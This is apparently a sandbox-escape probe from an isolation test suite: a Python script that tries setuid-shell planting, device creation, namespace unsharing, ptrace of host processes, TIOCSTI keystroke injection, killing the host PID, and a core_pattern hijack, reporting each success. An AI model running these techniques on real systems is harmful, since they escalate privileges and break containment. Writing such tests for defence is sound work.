"""Try for more rights: setuid files, devices, namespaces, mounts, tracing, typing into a terminal."""

import contextlib
import ctypes
import fcntl
import os
import pty
import shutil
import signal
import sys
import termios

libc = ctypes.CDLL(None, use_errno=True)
host_pid = int(sys.argv[1])


def won(what: str) -> None:
    print(what, flush=True)


for folder in ("/work", "/tmp", "/dev/shm"):
    with contextlib.suppress(OSError):
        shutil.copy("/bin/sh", f"{folder}/shell")
        os.chown(f"{folder}/shell", 0, 0)
        won("chown")
    with contextlib.suppress(OSError):
        os.chmod(f"{folder}/shell", 0o6755)
with contextlib.suppress(OSError):
    os.mknod("disk", 0o660 | 0o060000, os.makedev(254, 0))
    won("mknod")
with contextlib.suppress(OSError):
    os.setuid(0)
    won("setuid")
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    if libc.unshare(flag) == 0:
        won(f"unshare {flag:#x}")
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    won("mount")
if libc.umount2(b"/etc/hosts", 2) == 0:
    won("umount")
for pid in (host_pid, 1, os.getppid()):
    if libc.ptrace(16, pid, None, None) == 0:
        won("ptrace")
with contextlib.suppress(OSError):
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSTI, b"x")
    won("tiocsti")
with contextlib.suppress(OSError):
    terminal = os.open("/dev/tty", os.O_RDWR)
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
    won("tiocsti tty")
for pid in (host_pid, -host_pid):
    with contextlib.suppress(OSError):
        os.kill(pid, signal.SIGKILL)
        won("kill")
for path, content in {
    "/proc/sys/kernel/core_pattern": "|/work/shell",
    "/proc/sysrq-trigger": "h",
    "/proc/1/oom_score_adj": "1",
}.items():
    with contextlib.suppress(OSError), open(path, "w") as file:
        file.write(content)
        file.flush()
        won(path) if "oom" not in path else None
